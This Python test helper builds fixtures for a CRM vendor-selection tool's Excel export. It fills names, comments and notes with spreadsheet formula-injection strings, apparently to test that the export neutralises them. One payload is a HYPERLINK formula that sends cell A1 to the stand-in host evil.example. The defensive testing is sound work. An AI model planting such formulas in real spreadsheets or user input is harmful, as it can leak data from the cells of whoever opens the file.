"""Selections and workbooks for the Excel tests: copies of tests/data/minimal, edited per test."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml
from testdata import copy_minimal

from crmselect import Project, load_project

#: Text a vendor or member could type that spreadsheets would run as a formula (OWASP).
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1"]
CHINESE = "支持离线同步，适用于华为和小米手机。"


def selection(tmp_path: Path, name: str = "sel") -> Path:
    """A fresh copy of the minimal selection."""
    return copy_minimal(tmp_path / name)


def edit_yaml(path: Path, change: Callable[[Any], None]) -> None:
    """Load a YAML file, let ``change`` edit the data in place, write it back (comments are lost)."""
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def hostile_selection(tmp_path: Path) -> Project:
    """The minimal selection with injection strings and Chinese text in names, comments and notes."""
    root = selection(tmp_path, "hostile")

    def vendor(data: Any) -> None:
        data["name"] = INJECTIONS[0]
        answers = data["answers"]
        for cid, text in zip(answers, INJECTIONS, strict=False):
            answers[cid]["comment"] = text
        answers["SAL-001"]["evidence"] = CHINESE
        answers["SAL-002"]["evidence"] = "-1 page 3"

    def committee(data: Any) -> None:
        data["members"][0]["name"] = "@SUM(1)"
        data["notes"] = {"m-sales": {"acme": {"pipeline": INJECTIONS[0], "complaint": CHINESE}},
                         "m-it": {"borealis": {"pipeline": "\t=1"}}}

    edit_yaml(root / "vendors" / "acme.yaml", vendor)
    edit_yaml(root / "vendors" / "committee.yaml", committee)
    return load_project(root)
